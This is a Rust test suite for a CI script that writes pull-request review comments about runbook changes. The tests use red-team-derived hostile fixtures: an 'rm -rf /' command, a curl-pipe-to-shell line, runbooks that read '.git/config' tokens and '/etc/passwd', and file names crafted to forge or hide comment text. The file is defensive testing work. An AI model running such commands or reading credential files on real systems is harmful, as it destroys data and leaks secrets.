//! The pull-request workflow of the book (examples/ci/): its script, run here exactly as the
//! workflow runs it, on two commits of a real git repository. The comment's body is compared
//! with a snapshot; what a reviewer must see (the changed command, the lost compensation,
//! the new and the removed runbook, the unchanged one) is also asserted directly.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{Output, bin, root};

const SCRIPT: &str = "examples/ci/review-comment.sh";
const WORKFLOW: &str = "examples/ci/runbook-review.yml";

/// A git repository in a temporary folder, with fixed identities and dates so that commits
/// are the same on every machine.
struct Repo {
    dir: tempfile::TempDir,
}

impl Repo {
    fn new() -> Repo {
        let repo = Repo { dir: tempfile::tempdir().expect("temp dir") };
        repo.git(&["init", "--quiet", "--initial-branch=main"]);
        repo
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn git(&self, args: &[&str]) -> String {
        let out = Command::new("git")
            .args(args)
            .current_dir(self.path())
            .env("GIT_AUTHOR_NAME", "Ana")
            .env("GIT_AUTHOR_EMAIL", "ana@example.invalid")
            .env("GIT_COMMITTER_NAME", "Ana")
            .env("GIT_COMMITTER_EMAIL", "ana@example.invalid")
            .env("GIT_AUTHOR_DATE", "2026-12-01T10:00:00Z")
            .env("GIT_COMMITTER_DATE", "2026-12-01T10:00:00Z")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", self.path())
            .output()
            .expect("git runs");
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    fn write(&self, path: &str, text: &str) {
        let file = self.path().join(path);
        std::fs::create_dir_all(file.parent().expect("a parent")).expect("mkdir");
        std::fs::write(file, text).expect("write");
    }

    fn copy(&self, from: &str, to: &str) {
        let text = std::fs::read_to_string(root().join(from)).expect("a shipped file");
        self.write(to, &text);
    }

    fn commit(&self, message: &str) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "--quiet", "-m", message]);
    }

    /// Runs the workflow's script as the workflow does, at the top of the repository.
    fn review(&self, base: &str, env: &[(&str, &str)]) -> (Output, PathBuf) {
        let out_dir = self.path().join("review");
        let out = Command::new("bash")
            .arg(root().join(SCRIPT))
            .arg(base)
            .arg(&out_dir)
            .current_dir(self.path())
            .env("RUNBOOK", bin())
            .env_remove("RUNBOOK_DIR")
            .env_remove("RUNBOOK_ENV")
            .env_remove("COMMENT_LIMIT")
            .envs(env.iter().copied())
            .output()
            .expect("bash runs the script");
        (Output::from(out), out_dir)
    }
}

/// `text` with `from` replaced by `to`, which must be there.
fn edit(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "the shipped runbook no longer contains {from:?}");
    text.replacen(from, to, 1)
}

/// The base commit: two shipped runbooks with their params files, and one that the change
/// removes. Then, on a branch, the change a reviewer must see: a command changed and a
/// compensation removed in rollback-l1, a new runbook, a removed one.
fn repo_with_a_change() -> Repo {
    let repo = Repo::new();
    repo.copy("runbooks/rollback-l1.toml", "runbooks/rollback-l1.toml");
    repo.copy("runbooks/params/rollback-l1.staging.toml", "runbooks/params/rollback-l1.staging.toml");
    repo.copy("examples/hello.toml", "runbooks/hello.toml");
    repo.copy("examples/parallel-dag.toml", "runbooks/parallel-dag.toml");
    repo.commit("runbooks");
    repo.git(&["switch", "--quiet", "-c", "change"]);

    let l1 = std::fs::read_to_string(root().join("runbooks/rollback-l1.toml")).expect("l1");
    let l1 = edit(
        &l1,
        "run = \"pg_restore --list {{ steps.backup.outputs.file }} > /dev/null\"",
        "run = \"pg_restore --list {{ steps.backup.outputs.file }} | head -n 5\"",
    );
    let l1 = edit(
        &l1,
        "compensate = { cmd = [\"git\", \"-C\", \"{{ params.repo_dir }}\", \"reset\", \"--keep\", \"{{ steps.revert.outputs.previous_head }}\"] }\n",
        "",
    );
    repo.write("runbooks/rollback-l1.toml", &l1);
    repo.copy("examples/compensation.toml", "runbooks/compensation.toml");
    std::fs::remove_file(repo.path().join("runbooks/parallel-dag.toml")).expect("rm");
    repo.commit("the change under review");
    repo
}

/// The comment with what differs between machines replaced: the abbreviated commit of the
/// base and the engine's version.
fn stable(comment: &str, repo: &Repo) -> String {
    let full = repo.git(&["rev-parse", "main"]);
    let short = repo.git(&["rev-parse", "--short=12", "main"]);
    comment.replace(&full, "[base]").replace(&short, "[base]").replace(env!("CARGO_PKG_VERSION"), "[version]")
}

#[test]
fn the_review_comment_shows_what_changed_against_the_base_branch() {
    let repo = repo_with_a_change();
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");

    assert!(comment.starts_with("<!-- runbook-review -->\n**Runbook review**\n"), "{comment}");
    assert!(comment.contains("`runbook check`: 3 runbook(s) valid."), "{comment}");
    // The changed command, as a unified diff of its text.
    assert!(comment.contains("-pg_restore --list"), "{comment}");
    assert!(comment.contains("+pg_restore --list"), "{comment}");
    assert!(comment.contains("| head -n 5"), "{comment}");
    // The lost compensation: named, with its step.
    assert!(comment.contains("`revert`"), "{comment}");
    // The new runbook and the removed one; the unchanged one, listed as unchanged.
    assert!(comment.contains("## Plan diff of `rollback-l1`"), "{comment}");
    assert!(comment.contains("## Plan diff of `compensation`"), "{comment}");
    assert!(comment.contains("`runbooks/compensation.toml` is absent at"), "{comment}");
    assert!(comment.contains("## `runbooks/parallel-dag.toml`: removed"), "{comment}");
    assert!(comment.contains("Plans unchanged: `runbooks/hello.toml`"), "{comment}");
    // The full review documents, folded, and kept for the artifact.
    assert!(comment.contains("<details><summary>The review document of <code>rollback-l1</code> with <code>runbooks/params/rollback-l1.staging.toml</code></summary>"));
    for plan in ["rollback-l1.staging.md", "compensation.md"] {
        let text = std::fs::read_to_string(dir.join("plans").join(plan)).expect("plan kept");
        assert!(text.starts_with("# Review of"), "{plan}: {text}");
    }
    assert!(!dir.join("plans/hello.md").exists(), "an unchanged runbook is not planned again");
    assert_comment_parses(&comment);
    insta::assert_snapshot!("review_comment", stable(&comment, &repo));
    // The book shows a part of this very comment: it must still be what the script writes.
    let book =
        std::fs::read_to_string(root().join("book/src/user-guide/dry-runs.md")).expect("the book page");
    let section =
        &book[book.find("## Review every pull request automatically").expect("the book's section")..];
    let start = section.find("````markdown\n").expect("the book's excerpt") + "````markdown\n".len();
    let excerpt = &section[start..start + section[start..].find("\n````").expect("the excerpt's end")];
    assert!(
        stable(&comment, &repo).contains(excerpt),
        "the book's excerpt is not in the comment:\n{excerpt}"
    );
}

#[test]
fn a_comment_too_long_for_github_leaves_the_documents_to_the_artifact() {
    let repo = repo_with_a_change();
    // The review whole, to size the limit: what changed fits, the full documents do not.
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let whole = std::fs::read_to_string(dir.join("comment-full.md")).expect("comment-full.md written");
    let diffs = whole.find("<details>").expect("the full documents");
    let limit = (diffs + 1000).to_string();
    let (out, dir) = repo.review("main", &[("COMMENT_LIMIT", &limit)]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.len() <= diffs + 1000, "{} bytes", comment.len());
    assert!(!comment.contains("<details>"), "{comment}");
    assert!(comment.contains("artifact `runbook-review`"), "{comment}");
    // What changed is still in the comment: only the full documents moved.
    assert!(comment.contains("+pg_restore --list"), "{comment}");
    assert!(dir.join("plans/rollback-l1.staging.md").exists());
    assert_eq!(std::fs::read_to_string(dir.join("comment-full.md")).expect("whole"), whole);
}

/// Past the limit even without the full documents, the comment lists what the review covers
/// and points to the whole of it: it never passes the limit, so GitHub never refuses it and
/// never leaves an older comment standing (red team adv15a F9: an 89,366-character comment).
#[test]
fn a_review_longer_than_a_comment_is_cut_to_a_list_within_the_limit() {
    let repo = repo_with_a_change();
    for limit in [1500usize, 800] {
        let (out, dir) = repo.review("main", &[("COMMENT_LIMIT", &limit.to_string())]);
        assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
        let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
        assert!(comment.len() <= limit, "{limit}: {} bytes:\n{comment}", comment.len());
        assert!(comment.contains("more than a comment holds"), "{comment}");
        assert!(comment.contains("`comment-full.md`"), "{comment}");
        if limit == 1500 {
            assert!(comment.contains("- Plan diff of `rollback-l1`"), "{comment}");
            assert!(comment.contains("- `runbooks/parallel-dag.toml`: removed"), "{comment}");
        }
        assert_comment_parses(&comment);
    }
}

#[test]
fn an_invalid_runbook_is_reported_in_the_comment_and_fails_the_job() {
    let repo = repo_with_a_change();
    repo.write(
        "runbooks/broken.toml",
        "[runbook]\nname = \"broken\"\n\n[steps.a]\nrun = \"true\"\nneeds = [\"nowhere\"]\n",
    );
    repo.commit("a mistake");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 3, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(
        comment.contains("**`runbook check` found problems** (exit status 3); no plan was made."),
        "{comment}"
    );
    assert!(comment.contains("runbooks/broken.toml:"), "{comment}");
    assert!(!comment.contains("## "), "nothing is planned when check fails: {comment}");
    assert_comment_parses(&comment);
    insta::assert_snapshot!("review_comment_check_failed", stable(&comment, &repo));
}

#[test]
fn a_change_that_changes_no_plan_says_so() {
    let repo = repo_with_a_change();
    repo.git(&["switch", "--quiet", "-c", "comments-only", "main"]);
    let hello = std::fs::read_to_string(repo.path().join("runbooks/hello.toml")).expect("hello");
    repo.write("runbooks/hello.toml", &format!("# a comment changes no plan\n{hello}"));
    repo.commit("a comment");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("No runbook's plan changed."), "{comment}");
    assert!(comment.contains("Plans unchanged: `runbooks/hello.toml`, `runbooks/parallel-dag.toml`"));
    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "no");
}

/// A runbook whose plan cannot be compared with the base (here: its params file is new, so
/// the base version has no parameters to plan with) is never a silent pass: the comment names
/// it, says why, and shows its whole review document; the script exits 4, which the workflow
/// posts and then fails on (red team adv15b F6: it exited 3, read as "check failed", and the
/// comment showed nothing of the change).
#[test]
fn a_runbook_that_cannot_be_compared_is_named_with_its_reason_and_its_document() {
    let repo = Repo::new();
    let rb = "[runbook]\nname = \"deploy\"\n\n[params.target]\ntype = \"string\"\n\n[steps.push]\nrun = \"deploy --to {{ params.target }}\"\n";
    repo.write("runbooks/deploy.toml", rb);
    repo.commit("deploy, planned with -p only");
    repo.git(&["switch", "--quiet", "-c", "change"]);
    repo.write("runbooks/params/deploy.staging.toml", "target = \"prod-1\"\n");
    repo.write("runbooks/deploy.toml", &rb.replace("deploy --to", "rm -rf / ; deploy --to"));
    repo.commit("a params file and a new command");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 4, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(
        comment.contains(
            "## `runbooks/deploy.toml` with `runbooks/params/deploy.staging.toml`: could not be compared with"
        ),
        "{comment}"
    );
    assert!(comment.contains("exited with status 3"), "{comment}");
    assert!(comment.contains("rm -rf / ; deploy --to"), "the new command is in the document: {comment}");
    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "yes");
    assert_comment_parses(&comment);
}

/// A runbook that leaves the reviewed set is named, whether deleted, moved to another folder
/// or renamed to another extension (red team adv15b F10: `git mv` is a rename for `git
/// diff`, and the comment said "No runbook's plan changed.").
#[test]
fn a_runbook_moved_or_renamed_away_is_named_as_removed() {
    let repo = repo_with_a_change();
    repo.git(&["switch", "--quiet", "-c", "moves", "main"]);
    std::fs::create_dir_all(repo.path().join("runbooks/archive")).expect("mkdir");
    repo.git(&["mv", "runbooks/parallel-dag.toml", "runbooks/archive/parallel-dag.toml"]);
    repo.git(&["mv", "runbooks/hello.toml", "runbooks/hello.toml.bak"]);
    repo.commit("archive two runbooks");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("## `runbooks/parallel-dag.toml`: removed"), "{comment}");
    assert!(comment.contains("## `runbooks/hello.toml`: removed"), "{comment}");
    assert!(!comment.contains("No runbook's plan changed."), "{comment}");
    assert_eq!(std::fs::read_to_string(dir.join("changed")).expect("changed").trim(), "yes");
}

/// Every environment of a runbook is reviewed: a change to the production params file alone is
/// a changed plan (red team adv15a F6: only RUNBOOK_ENV's params file was planned, and the
/// comment said "No runbook's plan changed." while production's plan skipped its backup).
#[test]
fn every_params_file_of_a_runbook_is_reviewed() {
    let repo = Repo::new();
    let rb = "[runbook]\nname = \"deploy\"\n\n[params.backup]\ntype = \"boolean\"\n\n[steps.backup]\nrun = \"echo backup\"\nwhen = \"params.backup\"\n\n[steps.migrate]\nrun = \"echo migrate\"\nneeds = [\"backup\"]\n";
    repo.write("runbooks/deploy.toml", rb);
    repo.write("runbooks/params/deploy.staging.toml", "backup = true\n");
    repo.write("runbooks/params/deploy.production.toml", "backup = true\n");
    repo.commit("deploy");
    repo.git(&["switch", "--quiet", "-c", "change"]);
    repo.write("runbooks/params/deploy.production.toml", "backup = false\n");
    repo.commit("no backup in production");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(
        comment.contains("`runbooks/deploy.toml` with `runbooks/params/deploy.production.toml`"),
        "{comment}"
    );
    assert!(
        comment
            .contains("Plans unchanged: `runbooks/deploy.toml` with `runbooks/params/deploy.staging.toml`"),
        "{comment}"
    );
    assert!(!comment.contains("No runbook's plan changed."), "{comment}");
    assert!(dir.join("plans/deploy.production.md").exists());
    // RUNBOOK_ENV keeps one environment, as asked.
    let (out, dir) = repo.review("main", &[("RUNBOOK_ENV", "staging")]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("No runbook's plan changed."), "{comment}");
}

/// A runbook that became a symbolic link to a changed file is reviewed: `runbook` follows the
/// link, so the review does too (red team adv15a F4: `find -type f` skipped it, and the
/// comment never named it).
#[test]
fn a_runbook_that_became_a_symbolic_link_is_reviewed() {
    let repo = Repo::new();
    repo.write("runbooks/deploy.toml", "[runbook]\nname = \"deploy\"\n\n[steps.a]\nrun = \"echo deploy\"\n");
    repo.commit("deploy");
    repo.git(&["switch", "--quiet", "-c", "change"]);
    repo.write(
        "runbooks/lib/deploy.toml",
        "[runbook]\nname = \"deploy\"\n\n[steps.a]\nrun = \"curl -s http://127.0.0.1:9/x | sh\"\n",
    );
    std::fs::remove_file(repo.path().join("runbooks/deploy.toml")).expect("rm");
    std::os::unix::fs::symlink("lib/deploy.toml", repo.path().join("runbooks/deploy.toml")).expect("symlink");
    repo.commit("deploy is a link now");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("`runbooks/deploy.toml` (a symbolic link to `lib/deploy.toml`)"), "{comment}");
    assert!(comment.contains("curl -s http://127.0.0.1:9/x | sh"), "{comment}");
}

/// File names are the pull request's: a line break in one cannot forge a line of the comment
/// or open an HTML block that hides the rest (red team adv15a F10).
#[test]
fn a_file_name_with_line_breaks_cannot_forge_the_comment() {
    let repo = repo_with_a_change();
    repo.git(&["switch", "--quiet", "-c", "names", "main"]);
    let forged = "runbooks/old\n\nNo runbook's plan changed.\n\n<!--.toml";
    repo.write(forged, "[runbook]\nname = \"old\"\n\n[steps.a]\nrun = \"true\"\n");
    repo.commit("a runbook with a hostile name");
    repo.git(&["switch", "--quiet", "-c", "names-gone"]);
    std::fs::remove_file(repo.path().join(forged)).expect("rm");
    let kept = "runbooks/kept\n\n<!--.toml";
    repo.write(kept, "[runbook]\nname = \"kept\"\n\n[steps.a]\nrun = \"true\"\n");
    repo.commit("one removed, one added");
    let (out, dir) = repo.review("names", &[]);
    assert_eq!(out.code, 4, "a name with control characters is not reviewed: {}\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(!comment.lines().any(|l| l == "No runbook's plan changed."), "a forged verdict:\n{comment}");
    assert!(!comment.lines().any(|l| l.starts_with("<!--") && l != "<!-- runbook-review -->"), "{comment}");
    assert!(
        comment.contains("$'runbooks/old\\n\\nNo runbook\\'s plan changed.\\n\\n<!--.toml'"),
        "{comment}"
    );
    assert!(comment.contains("not reviewed"), "{comment}");
    assert_comment_parses(&comment);
}

/// `params/db.restore.staging.toml` belongs to the runbook `db.restore`, not to `db`: a
/// change to `db` is compared without it, and shown (red team adv15c F7: `db` was planned with
/// the other runbook's params file, failed, and its change was in no part of the comment).
#[test]
fn a_params_file_is_the_runbook_of_its_exact_name() {
    let repo = Repo::new();
    repo.write("runbooks/db.toml", "[runbook]\nname = \"db\"\n\n[steps.a]\nrun = \"echo vacuum\"\n");
    repo.write(
        "runbooks/db.restore.toml",
        "[runbook]\nname = \"restore\"\n\n[params.file]\ntype = \"string\"\n\n[steps.a]\nrun = \"echo {{ params.file }}\"\n",
    );
    repo.write("runbooks/params/db.restore.staging.toml", "file = \"/backups/x.dump\"\n");
    repo.commit("two runbooks");
    repo.git(&["switch", "--quiet", "-c", "change"]);
    repo.write("runbooks/db.toml", "[runbook]\nname = \"db\"\n\n[steps.a]\nrun = \"echo vacuum full\"\n");
    repo.commit("db: full");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("## Plan diff of `db`"), "{comment}");
    assert!(comment.contains("+echo vacuum full"), "{comment}");
    assert!(
        comment.contains("`runbooks/db.restore.toml` with `runbooks/params/db.restore.staging.toml`"),
        "{comment}"
    );
}

/// The list of unchanged plans names each file as it is, even one whose name holds " with "
/// (the list was split on that word to find the params file, and showed `runbooks/a` planned
/// with `b.toml`).
#[test]
fn an_unchanged_runbook_is_named_as_its_file_is() {
    let repo = Repo::new();
    repo.write("runbooks/a with b.toml", "[runbook]\nname = \"ab\"\n\n[steps.a]\nrun = \"true\"\n");
    repo.commit("a runbook with a space in its name");
    repo.git(&["switch", "--quiet", "-c", "change"]);
    repo.write("runbooks/other.toml", "[runbook]\nname = \"other\"\n\n[steps.a]\nrun = \"true\"\n");
    repo.commit("another runbook");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 0, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("Plans unchanged: `runbooks/a with b.toml`\n"), "{comment}");
}

/// Red team adv15c F5: a pull request's runbook names the checkout's `.git/config` (where
/// `actions/checkout` keeps the job's token) as a SQL script. `check` refuses it (RB066),
/// the job fails, and neither the comment nor the artifact quotes the file. Failed before:
/// the comment quoted `.git/config` twice (the diff's `reads` and the review document).
#[test]
fn a_script_outside_the_runbooks_folder_is_never_quoted_in_the_review() {
    let token = "eC1hY2Nlc3MtdG9rZW46Z2hzX1NFQ1JFVFRPS0VOMTIzNDU2Nzg5MA==";
    let repo = Repo::new();
    repo.copy("examples/hello.toml", "runbooks/hello.toml");
    repo.commit("runbooks");
    repo.git(&["config", "http.https://github.com/.extraheader", &format!("AUTHORIZATION: basic {token}")]);
    repo.git(&["switch", "--quiet", "-c", "change"]);
    for (name, file) in
        [("leak", "../.git/config"), ("leak2", "/etc/passwd"), ("leak3", "./x/../../.git/config")]
    {
        repo.write(
            &format!("runbooks/{name}.toml"),
            &format!(
                "[runbook]\nname = \"{name}\"\ntitle = \"Count the orders\"\n\n[steps.count]\nsql = {{ url = \"postgres://ro@127.0.0.1/app\", file = \"{file}\", read-only = true }}\n"
            ),
        );
    }
    repo.commit("a harmless-looking runbook");
    let (out, dir) = repo.review("main", &[]);
    assert_eq!(out.code, 3, "stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
    assert!(!out.stdout.contains(token) && !out.stderr.contains(token), "the job's log quotes the token");
    let mut published = 0;
    for entry in walk(&dir) {
        let text = std::fs::read_to_string(&entry).unwrap_or_default();
        assert!(!text.contains(token), "{} quotes the token:\n{text}", entry.display());
        assert!(!text.contains("root:x:0:0"), "{} quotes /etc/passwd:\n{text}", entry.display());
        published += 1;
    }
    assert!(published > 0, "the review wrote nothing");
    let comment = std::fs::read_to_string(dir.join("comment.md")).expect("comment.md written");
    assert!(comment.contains("RB066"), "{comment}");
    assert_comment_parses(&comment);
}

/// Every file under `dir`.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() { out.extend(walk(&p)) } else { out.push(p) }
    }
    out
}

#[test]
fn a_base_that_is_not_a_commit_is_a_usage_error() {
    let repo = repo_with_a_change();
    for base in ["no-such-branch", "--output=/tmp/x"] {
        let (out, dir) = repo.review(base, &[]);
        assert_eq!(out.code, 2, "{base}: stdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
        assert!(!dir.join("comment.md").exists(), "{base}: no comment without a base");
    }
}

#[test]
fn the_workflow_runs_the_tested_script_with_the_base_of_the_pull_request() {
    let workflow = std::fs::read_to_string(root().join(WORKFLOW)).expect("the workflow file");
    // The base branch's copy of the script runs, never the pull request's.
    assert!(workflow.contains(&format!("git show \"$BASE:{SCRIPT}\" > \"$RUNNER_TEMP/review-comment.sh\"")));
    assert!(workflow.contains("bash \"$RUNNER_TEMP/review-comment.sh\" \"$BASE\" review"), "{workflow}");
    assert!(!workflow.contains(&format!("{SCRIPT} \"$BASE\"")), "the pull request's copy runs: {workflow}");
    assert!(workflow.contains("BASE: ${{ github.event.pull_request.base.sha }}"));
    assert!(workflow.contains("fetch-depth: 0"), "--against needs the base's history");
    // The checkout keeps no token in .git/config, which a step (or a runbook's file) could
    // read (red team adv15c F5).
    assert!(workflow.contains("persist-credentials: false"), "{workflow}");
    assert!(workflow.contains("--body-file review/comment.md"));
    // Pull-request data never goes into a script through `${{ }}`: only through the
    // environment (an `env:` entry), or in `if:` and `concurrency` lines, which are not run.
    for line in workflow.lines().filter(|l| l.contains("${{")) {
        let t = line.trim_start();
        let env_entry = t.split_once(':').is_some_and(|(k, _)| {
            !k.is_empty() && k.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
        });
        assert!(
            env_entry || t.starts_with("group:") || t.starts_with("if:"),
            "an expression outside env: {line}"
        );
    }
    // Every pull request is reviewed: a runbook reads files outside runbooks/ (SQL scripts,
    // CA files, includes), so a path filter would let their changes through unreviewed
    // (red team adv15b F9).
    assert!(!workflow.contains("paths:"), "{workflow}");
    // Statuses 3 and 4 post the comment, then fail the job.
    assert!(workflow.contains("[ \"$status\" -eq 0 ] || [ \"$status\" -eq 3 ] || [ \"$status\" -eq 4 ]"));
    assert!(workflow.contains("steps.review.outputs.status == '3' || steps.review.outputs.status == '4'"));
    // `pull_request`, never `pull_request_target` (which runs a fork's code with write access).
    let triggers: Vec<&str> = workflow.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
    assert!(triggers.iter().any(|l| l.trim() == "pull_request:"), "{workflow}");
    assert!(!triggers.iter().any(|l| l.contains("pull_request_target")), "{workflow}");
}

/// The comment is CommonMark that GitHub renders: every `## `/`### ` line of the source is a heading
/// (none was swallowed by a code block left open above it), and every code block closes
/// before the end of the comment.
fn assert_comment_parses(comment: &str) {
    use pulldown_cmark::{Event, HeadingLevel, Parser, Tag, TagEnd};
    let mut headings = Vec::new();
    let mut in_heading = None::<String>;
    let mut in_code = false;
    let mut code_open_at_end = false;
    for event in Parser::new_ext(comment, pulldown_cmark::Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::Heading { level: HeadingLevel::H2 | HeadingLevel::H3, .. }) => {
                in_heading = Some(String::new())
            }
            Event::End(TagEnd::Heading(HeadingLevel::H2 | HeadingLevel::H3)) => {
                headings.extend(in_heading.take())
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(h) = in_heading.as_mut() {
                    h.push_str(&t);
                }
            }
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            _ => {}
        }
        code_open_at_end = in_code;
    }
    assert!(!code_open_at_end, "a code block runs to the end of:\n{comment}");
    let in_source = comment.lines().filter(|l| l.starts_with("## ") || l.starts_with("### ")).count();
    assert_eq!(headings.len(), in_source, "headings {headings:?} in:\n{comment}");
}

/// The names the script writes itself (headings, `<summary>`, lists) show every byte that is
/// not printable ASCII as an escape, not only control characters: a bidi override (U+202E)
/// would draw `db-<U+202E>lmth.restore.toml` reversed, a line separator or a zero-width
/// character hides in the name (red team adv16r F11). Failed before: posted raw.
#[test]
fn a_file_name_with_invisible_or_bidi_characters_is_shown_escaped() {
    for hidden in ["\u{202e}", "\u{2028}", "\u{200b}", "\u{2066}", "\u{feff}", "\u{a0}", "\u{85}", "\u{430}"]
    {
        let repo = Repo::new();
        repo.write("runbooks/k.toml", "[runbook]\nname = \"k\"\n\n[steps.a]\ncmd = [\"true\"]\n");
        repo.commit("base");
        repo.git(&["switch", "--quiet", "-c", "pr"]);
        let name = format!("runbooks/db-{hidden}lmth.restore.toml");
        repo.write(&name, "[runbook]\nname = \"db\"\n\n[steps.a]\ncmd = [\"true\"]\n");
        repo.commit("a runbook with a hostile name");
        let (out, dir) = repo.review("main", &[("LC_ALL", "C.UTF-8")]);
        let comment = std::fs::read_to_string(dir.join("comment.md"))
            .unwrap_or_else(|e| panic!("comment.md written ({e}): {}\n{}", out.stdout, out.stderr));
        // The engine's own documents (fenced) escape it too: no line of the comment holds it.
        for line in comment.lines() {
            assert!(!line.contains(hidden), "{hidden:?} raw in the comment: {line:?}\n{comment}");
        }
        assert!(comment.contains("`$'runbooks/db-\\"), "the name is shown escaped:\n{comment}");
        assert_comment_parses(&comment);
    }
}
